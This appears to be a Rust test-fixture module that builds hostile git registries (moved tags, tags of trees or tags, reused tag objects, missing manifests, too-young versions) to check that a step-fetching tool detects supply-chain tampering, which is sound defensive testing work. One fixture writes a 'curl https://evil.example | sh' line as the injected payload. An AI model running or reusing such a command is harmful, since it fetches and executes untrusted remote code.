//! Tags that change, and tags that are not what they seem.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::json;

use crate::git_server::GitServer;
use crate::repository::{MANIFEST, Repository};
use crate::{HostileRegistry, SeenIn, Served};

pub const TAG: &str = "roll-out/v1.0.0";

fn move_tag(repository: &Repository) {
    repository.write("roll-out/run", "curl https://evil.example | sh\n");
    repository.commit();
    repository.git(&["tag", "--force", TAG]);
}

/// The tag is moved after its version was published.
async fn moved_tag() -> Served {
    let repository = Arc::new(Repository::with_step());
    let server = GitServer::start(&repository).await;
    let url = server.url.clone();
    Served::new(&url, server).change(move || move_tag(&repository))
}

/// The tag is moved after it was listed, and before it is downloaded: when it is listed for the `list`th time.
pub async fn tag_that_moves(list: usize) -> Served {
    let repository = Arc::new(Repository::with_step());
    let (moving, lists) = (Arc::clone(&repository), AtomicUsize::new(0));
    let on_request = Arc::new(move |body: &str| {
        if body.contains("command=ls-refs") && lists.fetch_add(1, Ordering::SeqCst) + 1 == list {
            move_tag(&moving);
        }
    });
    let server = GitServer::start_with(&repository, None, on_request).await;
    let url = server.url.clone();
    Served::new(&url, (repository, server))
}

/// A repository with one more tag.
fn tagged(
    name: &'static str,
    reason: &'static str,
    tag: impl Fn(&Repository) + Clone + Send + Sync + 'static,
) -> HostileRegistry {
    HostileRegistry::new(name, reason, move || {
        let tag = tag.clone();
        async move {
            let repository = Repository::with_step();
            tag(&repository);
            Served::repository(repository).await
        }
    })
}

/// An old version looks like a new one.
fn reused_object(repository: &Repository) {
    repository.git(&["tag", "--annotate", "--message", "x", "roll-out/v1.0.1"]);
    let object = repository.git(&["rev-parse", "roll-out/v1.0.1"]);
    repository.git(&["update-ref", "refs/tags/roll-out/v2.0.0", &object]);
}

fn tag_of_a_tag(repository: &Repository) {
    repository.git(&["tag", "--annotate", "--message", "x", "other"]);
    repository.git(&["tag", "--annotate", "--message", "x", "roll-out/v3.0.0", "other"]);
}

fn tag_of_a_tree(repository: &Repository) {
    repository.git(&["tag", "roll-out/v4.0.0", "HEAD^{tree}"]);
}

fn no_folder(repository: &Repository) {
    repository.git(&["tag", "no-folder/v1.0.0"]);
}

fn file_as_folder(repository: &Repository) {
    repository.write("a-file", MANIFEST);
    repository.commit();
    repository.git(&["tag", "a-file/v1.0.0"]);
}

fn no_manifest(repository: &Repository) {
    repository.write("no-manifest/x", "x");
    repository.commit();
    repository.git(&["tag", "no-manifest/v1.0.0"]);
}

async fn young_version() -> Served {
    Served::repository(Repository::with_step()).await.settings(json!({ "minimumAgeSeconds": 86_400 }))
}

/// Those that the reader refuses.
pub fn malformed() -> Vec<HostileRegistry> {
    vec![
        tagged("reused-tag-object", "for another tag", reused_object),
        tagged("tag-of-a-tag", "does not refer to a commit", tag_of_a_tag),
        tagged("tag-of-a-tree", "does not refer to a commit", tag_of_a_tree),
        tagged("no-folder", "no folder `no-folder`", no_folder),
        tagged("file-as-folder", "no folder `a-file`", file_as_folder),
        tagged("no-manifest", "no file step.yaml", no_manifest),
    ]
}

pub fn all() -> Vec<HostileRegistry> {
    let moved = SeenIn::Event("step.tag_moved");
    let mut all = vec![
        HostileRegistry::new("moved-tag", "was moved from", moved_tag).seen_in(moved).in_ci(),
        // The first list is that of all tags, the second one is compared, and the third one is that of the fetch.
        HostileRegistry::new("tag-moved-before-fetch", "was moved from", || tag_that_moves(2)),
        HostileRegistry::new("tag-moved-during-fetch", "was moved from", || tag_that_moves(3)),
        HostileRegistry::new("young-version", "is too new for its registry", young_version)
            .seen_in(SeenIn::Resolution)
            .in_ci(),
    ];
    all.extend(malformed());
    all
}
